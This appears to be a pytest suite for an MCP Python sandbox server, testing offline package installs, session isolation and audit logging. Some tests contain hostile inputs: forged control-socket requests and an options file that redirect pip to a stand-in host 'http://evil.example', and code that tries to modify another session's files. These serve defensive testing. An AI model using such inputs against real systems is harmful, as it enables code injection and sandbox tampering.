"""Code in real sessions installs packages without a network, by every command that people use."""

from __future__ import annotations

import json
import logging
import os
from typing import TYPE_CHECKING

import anyio
import pytest
from mcp import Client
from mcp.types import TextContent

from aca_mcp.errors import PackagesNotInstalledError
from aca_mcp.missing_modules import PackageOffer
from aca_mcp.server.app import ServerOptions, create_server
from aca_mcp.server.audit import AuditLog
from aca_mcp.server.callers import Callers
from aca_mcp.server.sessions.client_sessions import open_sessions
from aca_mcp.settings import Settings
from tests.packages.sessions import opened, printed, run
from tests.support.package_index import make_wheel
from tests.support.streams import content

if TYPE_CHECKING:
    from pathlib import Path

    from aca_mcp.pool import SessionPool
    from tests.support.package_index import Index


CHECK_CALL = """
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "needs-tea"])
"""


AWAITED = """
from asyncio import create_subprocess_exec as start
await (await start("pip", "install", "needs-tea")).wait()
"""
DEEP = """%%bash
mkdir -p deep; echo -r more.txt > deep/wanted.txt; echo needs-tea > deep/more.txt
cd deep; python3 -m pip install -r wanted.txt
"""
COMMANDS = (
    "%pip install needs-tea",
    "!pip install -q --upgrade needs-tea",
    "!uv pip install 'needs-tea==2.0'",
    "!python -m pip install needs-tea > /dev/null 2>&1 && echo done",
    "import sys\n!{sys.executable} -m pip install needs-tea | tail -1",
    CHECK_CALL,
    "import os; os.system('pip3 install needs-tea')",
    "open('wanted.txt', 'w').write('needs-tea  # tea\\n')\n%pip install -r wanted.txt",
    "%%bash\nset -e\nif ! python3 -c 'import needs_tea'; then pip install needs-tea; fi",
    DEEP,
    "import subprocess; subprocess.run(['sh', '-c', 'sudo -H pip install needs-tea'])",
    "import subprocess; subprocess.run('uv pip install needs-tea', shell=True)",
    "%conda install -y -c conda-forge needs-tea=2.0",
    "!uv add needs-tea",
    "open('setup.sh', 'w').write('pip install $1')\n!bash setup.sh needs-tea",
    AWAITED,
)
"""Of code, each for a session of its own."""


@pytest.mark.timeout(180)
async def test_the_import_works_in_the_next_line(index: Index, data_dir: Path) -> None:
    async with opened(index, data_dir) as pool:
        for number, command in enumerate(COMMANDS):
            await _install_and_import(pool, command, f"a-session-{number}")


async def test_programs_ask_in_every_tier(pool: SessionPool) -> None:
    await _install_and_import(pool, "!pip install needs-tea")


async def _install_and_import(
    pool: SessionPool, command: str, identifier: str = "a-session"
) -> None:
    use = "import needs_tea, tea_time\nprint('tea', tea_time.version)"
    if command.startswith("%%"):
        await printed(pool, command, identifier)
        assert "tea 1.0" in await printed(pool, use, identifier)
    else:
        assert "tea 1.0" in await printed(pool, f"{command}\n{use}", identifier), command
    program = (
        "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', 'import tea_time;"
    )
    program += " print(tea_time.version)'], capture_output=True, text=True).stdout)"
    assert "1.0" in await printed(pool, program, identifier), command
    await pool.stop_session(identifier)


async def test_a_program_that_outlives_the_code_is_told_so(pool: SessionPool) -> None:
    code = """
import subprocess
later = subprocess.Popen("sleep 1; pip install needs-tea", shell=True, stderr=subprocess.PIPE)
"""
    await printed(pool, code)
    # With code that starts no program of its own, nobody listens.
    text = await printed(pool, "later.wait(); print(later.stderr.read().decode())")
    assert "Say %pip install in a cell" in text
    assert "Success" in await printed(pool, "!pip install needs-tea")


async def test_nothing_stays_of_answering_when_the_code_has_ended(pool: SessionPool) -> None:
    """A thread or an open file would be in a checkpoint's way."""
    count = "import os; print(len(os.listdir('/proc/self/task')), len(os.listdir('/proc/self/fd')))"
    before = await printed(pool, count)
    await printed(pool, "!pip install needs-tea")
    # A thread that was waited for is in /proc for a moment more.
    with anyio.fail_after(30):
        while await printed(pool, count) != before:
            continue


@pytest.mark.parametrize("before", ["", "kept = 1"])
async def test_what_was_installed_is_there_after_a_crash(pool: SessionPool, before: str) -> None:
    """Variables go back to a checkpoint, which may be older than the packages."""
    await printed(pool, before)
    crash = "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"
    for code in (f"%pip install needs-tea\n{crash}", crash):
        execution = await run(pool, code)
        assert execution.rollback is not None
        assert await printed(pool, "import tea_time; print(tea_time.version)") == "1.0\n"


async def test_a_wheel_that_is_a_file_is_installed_with_what_it_needs(
    pool: SessionPool, tmp_path: Path
) -> None:
    wheel = make_wheel(tmp_path, "own-work", requires=("tea-time<1.1",))

    await pool.upload_file("a-session", wheel.name, content(wheel.read_bytes()))
    text = await printed(pool, f"%pip install ./{wheel.name}\nimport own_work, tea_time")
    assert text == ("Successfully installed tea-time-1.0\nSuccessfully installed own-work-1.0\n")
    names = {each.name for each in await pool.list_packages("a-session")}
    assert "own-work" in names
    assert "own-work 1.0" in await printed(pool, "!pip list")


NOT_INSTALLABLE = (
    ("./nothing-1.0-py3-none-any.whl", "No such file"),
    ("other-1.0-cp27-cp27m-win_amd64.whl", "not for this interpreter"),
    ("bad-1.0-py3-none-any.whl", "damaged"),
    ("noname.whl", "not named as wheels are"),
    (".", "sources are not built"),
    ("./package/", "sources are not built"),
    ("archive-1.0.tar.gz", "sources are not built"),
    ("git+https://example.org/x.git", "URL or a path"),
    ("-e .", "option -e"),
    ("-r missing.txt", "No such file"),
    ("-r options.txt", "options.txt has the option --index-url"),
)
"""What code asks for, and a part of what it is told."""


@pytest.mark.timeout(180)
async def test_what_cannot_be_installed_from_a_file_is_said(index: Index, data_dir: Path) -> None:
    async with opened(index, data_dir) as pool:
        await printed(
            pool,
            "open('bad-1.0-py3-none-any.whl', 'w').write('x')\n"
            "open('options.txt', 'w').write('--index-url http://evil.example\\ntea-time')",
        )
        for wanted, says in NOT_INSTALLABLE:
            assert says in await printed(pool, f"%pip install {wanted}"), wanted
    assert index.asked == []


async def test_the_port_installs_and_what_is_there_is_told(pool: SessionPool) -> None:
    made = await pool.install_packages("a-session", ["needs-tea"])
    assert [each.name for each in made.installed] == ["needs-tea", "tea-time"]
    assert "1.0" in await printed(pool, "import tea_time; print(tea_time.version)")
    again = await pool.install_packages("a-session", ["tea-time"])
    assert (again.installed, [each.version for each in again.present]) == ((), ["1.0"])
    with pytest.raises(PackagesNotInstalledError, match="'no-tea'"):
        await pool.install_packages("a-session", ["no-tea"])
    names = {each.name for each in await pool.list_packages("a-session")}
    assert {"needs-tea", "tea-time"} <= names


async def test_no_session_sees_or_changes_what_others_have(pool: SessionPool) -> None:
    await pool.install_packages("a-session", ["tea-time"])
    look = """
import errno, os, sys
import tea_time
directory = os.path.dirname(os.path.dirname(tea_time.__file__))
def refusal(action, *arguments):
    try:
        return action(*arguments)
    except OSError as error:
        return errno.errorcode[error.errno]
print(refusal(os.listdir, os.path.dirname(directory)))
print(refusal(os.chmod, os.path.dirname(directory), 0o755))
print(refusal(open, os.path.join(directory, 'tea_time', '__init__.py'), 'w'))
print(refusal(os.unlink, os.path.join(directory, 'tea_time', '__init__.py')))
print(refusal(open, os.path.join(directory, 'new'), 'w'))
"""
    lines = (await printed(pool, look)).split()
    assert all(line in {"EACCES", "EPERM", "EROFS"} for line in lines), lines
    other = await run(pool, "import tea_time", "another-session")
    assert other.error is not None
    assert other.error.name == "ModuleNotFoundError"


async def test_forged_questions_gain_nothing(pool: SessionPool, index: Index) -> None:
    forge = """
import json, socket, struct
control = socket.socket(fileno=3)
def ask(**header):
    body = json.dumps({**header, "blobs": []}).encode()
    control.sendall(struct.pack(">II", len(body), 0) + body)
for question in ({"ask": "install", "requirements": ["--index-url=http://evil.example"]},
                 {"ask": "install", "requirements": 7}, {"ask": ["x"]}, {"ask": None},
                 {"ask": "install", "requirements": [["tea"], {}, None] * 1000, "number": "x"}):
    ask(**question)
control.detach()
print("asked")
"""
    assert "asked" in await printed(pool, forge)
    assert index.asked == []
    assert await printed(pool, "print(1)") == "1\n"


async def test_where_nothing_may_be_installed_that_is_said(index: Index, data_dir: Path) -> None:
    async with opened(index, data_dir, packages="off") as pool:
        text = await printed(pool, "%pip install tea-time")
        assert "ACA_MCP_PACKAGES=index" in text
        with pytest.raises(PackagesNotInstalledError):
            await pool.install_packages("a-session", ["tea-time"])
    assert index.asked == []
    assert os.listdir(data_dir) == []  # noqa: PTH208 -- in one step


async def test_what_is_refused_is_in_the_audit_log_too(
    index: Index, data_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    permitted = data_dir / "permitted.txt"
    permitted.write_text("tea-time\n")
    for changes in ({"packages": "off"}, {"packages": "list", "packages_list": permitted}):
        caplog.clear()
        with caplog.at_level(logging.INFO, "aca_mcp.audit"):
            async with opened(index, data_dir, **changes) as pool, open_sessions(pool) as sessions:
                audit = AuditLog(lambda: "token:alice", secret=b"s" * 32)
                options = ServerOptions(packages=PackageOffer("index"))
                server = create_server(
                    Callers(sessions, lambda: "token:alice"), options, audit=audit
                )
                async with Client(server) as client:
                    code = "for _ in range(30): get_ipython().run_line_magic('pip', 'install evil')"
                    await client.call_tool("execute_python", {"code": code})
                    await client.call_tool("install_packages", {"packages": ["evil"]})
        lines = [json.loads(record.message) for record in caplog.records]
        asked = [line for line in lines if "packages" in line]
        assert {line["outcome"] for line in asked} == {"packages_not_installed"}
        assert {tuple(line["packages"]) for line in asked} == {("evil",)}
        assert {line["principal"] for line in asked} == {"token:alice"}
        # Ten that are refused for what they are, ten as one too many, and no more.
        assert len(asked) == 20
    assert index.asked == []


async def test_code_that_is_interrupted_while_it_installs_keeps_its_session(
    pool: SessionPool, index: Index
) -> None:
    await printed(pool, "kept = 1")
    execution = await pool.execute("a-session", "%pip install needs-tea", timeout_seconds=0.05)
    assert execution.session_lost is None
    assert await printed(pool, "print(kept)") == "1\n"
    assert "Success" in await printed(pool, "%pip install needs-tea")


def test_the_policy_is_off_over_http_unless_it_is_chosen() -> None:
    assert Settings().packages_policy == "index"
    assert Settings(transport="http").packages_policy == "off"
    assert Settings(transport="http", packages="index").packages_policy == "index"
    assert Settings(packages="off").packages_policy == "off"


async def test_who_asked_by_code_is_in_the_audit_log_and_counted(
    index: Index, data_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    principal = "token:alice"
    with caplog.at_level(logging.INFO, "aca_mcp.audit"):
        async with opened(index, data_dir) as pool, open_sessions(pool) as sessions:
            audit = AuditLog(lambda: principal, secret=b"s" * 32)
            options = ServerOptions(packages=PackageOffer("index"))
            server = create_server(Callers(sessions, lambda: principal), options, audit=audit)
            async with Client(server) as client:
                for _ in range(20):
                    handle = (await client.call_tool("start_session", {})).content[0]
                    assert isinstance(handle, TextContent)
                    code = {"code": "%pip install -q needs-tea", "session": handle.text.strip()}
                    result = await client.call_tool("execute_python", code)
                    assert "Success" in str(result.content)
                    await client.call_tool("restart_session", {"session": handle.text.strip()})
                result = await client.call_tool("install_packages", {"packages": ["tea-time"]})
                assert "sessions of one user" in str(result.content)
    lines = [json.loads(record.message) for record in caplog.records]
    asked = [line for line in lines if "packages" in line]
    assert [line["packages"] for line in asked] == [["needs-tea"]] * 20 + [["tea-time"]]
    assert {line["principal"] for line in asked} == {principal}
    assert [line["outcome"] for line in asked] == ["ok"] * 20 + ["packages_not_installed"]
    executions = [line for line in lines if line.get("tool") == "execute_python"]
    assert [line["session"] for line in executions] == [line["session"] for line in asked[:20]]
    assert all(line["session"] for line in asked)
